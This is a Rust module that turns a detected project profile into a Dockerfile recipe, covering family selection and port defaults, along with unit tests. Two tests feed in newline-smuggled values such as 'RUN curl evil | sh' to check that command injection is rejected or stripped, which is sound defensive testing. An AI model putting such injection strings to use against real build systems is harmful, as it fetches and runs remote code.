pub mod fallback;
pub mod gomod;
pub mod java;
pub mod node;
pub mod python;
pub mod render;

use crate::error::PipelineError;
use crate::scanner::env_file;
use crate::scanner::patterns::{DJANGO, FASTAPI, FLASK, GO, JAVA, NEXTJS, NODE, PYTHON, SPRING_BOOT};
use crate::scanner::ProjectProfile;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;

/// Port exposed when the input names none.
pub const DEFAULT_PORT: u16 = 3000;

/// Synthesizer input: a detected profile or a hand-picked stack.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct RecipeInput {
    #[serde(default)]
    pub tech_stack: Vec<String>,
    #[serde(default, alias = "envVariables")]
    pub env_variable_names: Vec<String>,
    #[serde(default)]
    pub dependencies: Vec<String>,
    #[serde(default)]
    pub entry_point: Option<String>,
    #[serde(default)]
    pub build_command: Option<String>,
    #[serde(default)]
    pub start_command: Option<String>,
    #[serde(default)]
    pub ports: Vec<u16>,
    /// Relative paths, used only to spot lockfiles and build wrappers.
    #[serde(default)]
    pub project_structure: Vec<String>,
}

impl From<&ProjectProfile> for RecipeInput {
    fn from(p: &ProjectProfile) -> Self {
        RecipeInput {
            tech_stack: p.tech_stack.iter().cloned().collect(),
            env_variable_names: p.env_variable_names.iter().cloned().collect(),
            dependencies: p.dependencies.iter().cloned().collect(),
            entry_point: p.entry_point.clone(),
            build_command: p.build_command.clone(),
            start_command: p.start_command.clone(),
            ports: p.ports.iter().copied().collect(),
            project_structure: p.project_structure.clone(),
        }
    }
}

impl RecipeInput {
    pub fn has_label(&self, label: &str) -> bool {
        self.tech_stack.iter().any(|l| l.trim() == label)
    }

    /// Case-insensitive dependency lookup.
    pub fn has_dep(&self, name: &str) -> bool {
        self.dependencies.iter().any(|d| d.eq_ignore_ascii_case(name))
    }

    /// True when some path in the project structure has this base name.
    pub fn has_file(&self, base_name: &str) -> bool {
        self.project_structure
            .iter()
            .any(|p| p.rsplit(|c: char| c == '/' || c == '\\').next() == Some(base_name))
    }

    /// True when some path sits under the top-level directory `dir`.
    pub fn has_dir(&self, dir: &str) -> bool {
        self.project_structure.iter().any(|p| {
            p.strip_prefix(dir)
                .is_some_and(|rest| rest.starts_with('/') || rest.starts_with('\\'))
        })
    }

    pub fn start_command(&self) -> Option<&str> {
        non_blank(&self.start_command)
    }

    pub fn build_command(&self) -> Option<&str> {
        non_blank(&self.build_command)
    }

    pub fn entry_point(&self) -> Option<&str> {
        non_blank(&self.entry_point)
    }
}

fn non_blank(v: &Option<String>) -> Option<&str> {
    v.as_deref().map(str::trim).filter(|s| !s.is_empty())
}

/// A single stage in a multi-stage build.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Stage {
    pub name: Option<String>,
    pub base_image: String,
    pub workdir: String,
    pub instructions: Vec<String>,
}

impl Stage {
    pub fn new(base_image: impl Into<String>, instructions: Vec<String>) -> Self {
        Stage {
            name: None,
            base_image: base_image.into(),
            workdir: "/app".into(),
            instructions,
        }
    }

    pub fn named(mut self, name: &str) -> Self {
        self.name = Some(name.to_string());
        self
    }
}

/// The container's final command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "form", content = "value", rename_all = "camelCase")]
pub enum StartInstruction {
    /// `CMD ["prog", "arg"]`
    Exec(Vec<String>),
    /// `CMD prog arg`, used verbatim for user-declared start scripts.
    Shell(String),
}

impl StartInstruction {
    pub fn exec(args: &[&str]) -> Self {
        StartInstruction::Exec(args.iter().map(|s| s.to_string()).collect())
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Recipe {
    pub family: String,
    pub stages: Vec<Stage>,
    pub exposed_ports: BTreeSet<u16>,
    pub env_declarations: Vec<String>,
    pub start: StartInstruction,
}

impl Recipe {
    /// Dockerfile text. Equal recipes render byte-identical output.
    pub fn render(&self) -> String {
        render::render_dockerfile(self)
    }

    /// Port the service is expected to listen on.
    pub fn primary_port(&self) -> u16 {
        listen_port(&self.family, &self.exposed_ports)
    }
}

/// What a family builder decides; ports and env come from the input.
pub struct Plan {
    pub stages: Vec<Stage>,
    pub start: StartInstruction,
}

type FamilyFn = fn(&RecipeInput, u16) -> Plan;

/// Ordered families: framework-specific first, then generic runtime.
fn families() -> Vec<(&'static str, FamilyFn)> {
    vec![
        // Framework-level (high priority)
        (NEXTJS,      node::nextjs),
        (DJANGO,      python::django),
        (FLASK,       python::flask),
        (FASTAPI,     python::fastapi),
        (SPRING_BOOT, java::spring_boot),
        // Runtime-level
        (NODE,        node::generic),
        (PYTHON,      python::generic),
        (JAVA,        java::generic),
        (GO,          gomod::build),
    ]
}

/// Port a framework listens on when nothing says otherwise.
fn default_port(family: &str) -> Option<u16> {
    match family {
        NEXTJS | NODE => Some(3000),
        DJANGO | FASTAPI => Some(8000),
        FLASK => Some(5000),
        SPRING_BOOT | JAVA | GO => Some(8080),
        _ => None,
    }
}

/// The family's own port when exposed, else the lowest exposed port.
fn listen_port(family: &str, exposed: &BTreeSet<u16>) -> u16 {
    default_port(family)
        .filter(|p| exposed.contains(p))
        .or_else(|| exposed.iter().next().copied())
        .unwrap_or(DEFAULT_PORT)
}

fn single_line(field: &str, value: &Option<String>) -> Result<(), PipelineError> {
    match value {
        Some(v) if v.contains(['\n', '\r']) => {
            Err(PipelineError::invalid(format!("{} must be a single line", field)))
        }
        _ => Ok(()),
    }
}

/// Turn a profile into a recipe. Only an empty tech stack is an error;
/// unknown stacks get the fallback recipe.
pub fn synthesize(input: &RecipeInput) -> Result<Recipe, PipelineError> {
    if input.tech_stack.iter().all(|l| l.trim().is_empty()) {
        return Err(PipelineError::invalid("techStack is required and must not be empty"));
    }
    single_line("startCommand", &input.start_command)?;
    single_line("buildCommand", &input.build_command)?;
    single_line("entryPoint", &input.entry_point)?;

    let exposed_ports: BTreeSet<u16> = if input.ports.is_empty() {
        BTreeSet::from([DEFAULT_PORT])
    } else {
        input.ports.iter().copied().collect()
    };

    let (family, plan) = match families().into_iter().find(|(label, _)| input.has_label(label)) {
        Some((label, build)) => (label, build(input, listen_port(label, &exposed_ports))),
        None => (
            fallback::FAMILY,
            fallback::build(input, listen_port(fallback::FAMILY, &exposed_ports)),
        ),
    };

    let env_declarations: BTreeSet<String> = input
        .env_variable_names
        .iter()
        .filter_map(|n| env_file::declared_name(n))
        .map(String::from)
        .collect();

    Ok(Recipe {
        family: family.to_string(),
        stages: plan.stages,
        exposed_ports,
        env_declarations: env_declarations.into_iter().collect(),
        start: plan.start,
    })
}

/// `startCommand` verbatim, else the entry point through `runner`, else `fallback`.
pub(crate) fn start_or(
    input: &RecipeInput,
    runner: &[&str],
    fallback: &[&str],
) -> StartInstruction {
    if let Some(cmd) = input.start_command() {
        StartInstruction::Shell(cmd.to_string())
    } else if let Some(entry) = input.entry_point() {
        let mut args: Vec<String> = runner.iter().map(|s| s.to_string()).collect();
        args.push(entry.to_string());
        StartInstruction::Exec(args)
    } else {
        StartInstruction::exec(fallback)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::{detect, SourceFile};

    fn input(stack: &[&str]) -> RecipeInput {
        RecipeInput {
            tech_stack: stack.iter().map(|s| s.to_string()).collect(),
            ..Default::default()
        }
    }

    #[test]
    fn test_empty_stack_is_invalid() {
        assert!(matches!(synthesize(&input(&[])), Err(PipelineError::InvalidInput(_))));
        assert!(matches!(synthesize(&input(&["  "])), Err(PipelineError::InvalidInput(_))));
    }

    #[test]
    fn test_node_default_port() {
        let recipe = synthesize(&input(&["Node.js"])).unwrap();
        assert_eq!(recipe.exposed_ports, BTreeSet::from([3000]));
        assert!(recipe.render().contains("EXPOSE 3000\n"));
    }

    #[test]
    fn test_node_entry_point_runs_directly() {
        let mut i = input(&["Node.js"]);
        i.entry_point = Some("index.js".into());
        let recipe = synthesize(&i).unwrap();
        assert_eq!(recipe.start, StartInstruction::exec(&["node", "index.js"]));
        assert!(recipe.render().ends_with("CMD [\"node\", \"index.js\"]\n"));
    }

    #[test]
    fn test_unknown_stack_falls_back() {
        let recipe = synthesize(&input(&["COBOL"])).unwrap();
        assert_eq!(recipe.family, fallback::FAMILY);
        assert_eq!(
            recipe.start,
            StartInstruction::exec(&["echo", "No entry point specified"])
        );
    }

    #[test]
    fn test_framework_beats_runtime() {
        let recipe = synthesize(&input(&["Node.js", "React", "Next.js"])).unwrap();
        assert_eq!(recipe.family, NEXTJS);
        let recipe = synthesize(&input(&["Python", "Django"])).unwrap();
        assert_eq!(recipe.family, DJANGO);
        let recipe = synthesize(&input(&["Java", "Spring Boot"])).unwrap();
        assert_eq!(recipe.family, SPRING_BOOT);
    }

    #[test]
    fn test_runtime_beats_fallback() {
        assert_eq!(synthesize(&input(&["COBOL", "Go"])).unwrap().family, GO);
    }

    #[test]
    fn test_env_declarations_blank_values() {
        let mut i = input(&["Python"]);
        i.env_variable_names = vec!["DB_URL".into(), "API_KEY".into(), "API_KEY".into()];
        let recipe = synthesize(&i).unwrap();
        assert_eq!(recipe.env_declarations, vec!["API_KEY", "DB_URL"]);
        let text = recipe.render();
        assert!(text.contains("ENV API_KEY=\n"));
        assert!(text.contains("ENV DB_URL=\n"));
    }

    #[test]
    fn test_env_values_and_injected_lines_dropped() {
        let mut i = input(&["Node.js"]);
        i.env_variable_names = vec![
            "DB_URL=postgres://u:pw@h/db".into(),
            "A\nRUN curl evil | sh".into(),
            "  ".into(),
        ];
        let recipe = synthesize(&i).unwrap();
        assert_eq!(recipe.env_declarations, vec!["DB_URL"]);
        let text = recipe.render();
        assert!(text.contains("ENV DB_URL=\n"));
        assert!(!text.contains("pw@h"));
        assert!(!text.contains("curl evil"));
    }

    #[test]
    fn test_multiline_commands_rejected() {
        for field in ["start", "build", "entry"] {
            let mut i = input(&["Node.js"]);
            let value = Some("npm start\nRUN curl evil | sh".to_string());
            match field {
                "start" => i.start_command = value,
                "build" => i.build_command = value,
                _ => i.entry_point = value,
            }
            assert!(matches!(synthesize(&i), Err(PipelineError::InvalidInput(_))), "{}", field);
        }
        let mut i = input(&["Python"]);
        i.start_command = Some("python app.py\r".into());
        assert!(matches!(synthesize(&i), Err(PipelineError::InvalidInput(_))));
    }

    #[test]
    fn test_framework_binds_its_own_port() {
        let files = vec![
            SourceFile::text("requirements.txt", "django\n"),
            SourceFile::text("manage.py", ""),
            SourceFile::text("shop/views.py", "return next(iter(xs))"),
        ];
        let recipe = synthesize(&RecipeInput::from(&detect(&files))).unwrap();
        assert_eq!(recipe.exposed_ports, BTreeSet::from([3000, 8000]));
        assert_eq!(recipe.primary_port(), 8000);
        assert!(recipe
            .render()
            .ends_with("CMD [\"python\", \"manage.py\", \"runserver\", \"0.0.0.0:8000\"]\n"));

        let mut i = input(&["Python", "Flask"]);
        i.ports = vec![9000, 7000];
        assert_eq!(synthesize(&i).unwrap().primary_port(), 7000);
    }

    #[test]
    fn test_pure_rendering() {
        let mut i = input(&["Node.js", "Express"]);
        i.ports = vec![8080, 3000, 8080];
        i.build_command = Some("tsc".into());
        i.env_variable_names = vec!["TOKEN".into()];
        assert_eq!(synthesize(&i).unwrap().render(), synthesize(&i.clone()).unwrap().render());
        assert!(synthesize(&i).unwrap().render().contains("EXPOSE 3000 8080\n"));
    }

    #[test]
    fn test_detected_profile_feeds_synthesizer() {
        let files = vec![
            SourceFile::text(
                "package.json",
                r#"{"dependencies":{"express":"4"},"scripts":{"start":"node server.js","build":"tsc"}}"#,
            ),
            SourceFile::text("package-lock.json", "{}"),
            SourceFile::text(".env", "SESSION_SECRET=hunter2"),
        ];
        let profile = detect(&files);
        let recipe = synthesize(&RecipeInput::from(&profile)).unwrap();
        assert_eq!(recipe.family, NODE);
        let text = recipe.render();
        assert!(text.contains("RUN npm ci\n"));
        assert!(text.contains("RUN tsc\n"));
        assert!(text.contains("ENV SESSION_SECRET=\n"));
        assert!(!text.contains("hunter2"));
        assert!(text.ends_with("CMD node server.js\n"));
    }

    #[test]
    fn test_input_accepts_env_variables_alias() {
        let i: RecipeInput = serde_json::from_str(
            r#"{"techStack":["Python"],"envVariables":["A"],"ports":[5000]}"#,
        )
        .unwrap();
        assert_eq!(i.env_variable_names, vec!["A"]);
        assert_eq!(i.ports, vec![5000]);
    }
}
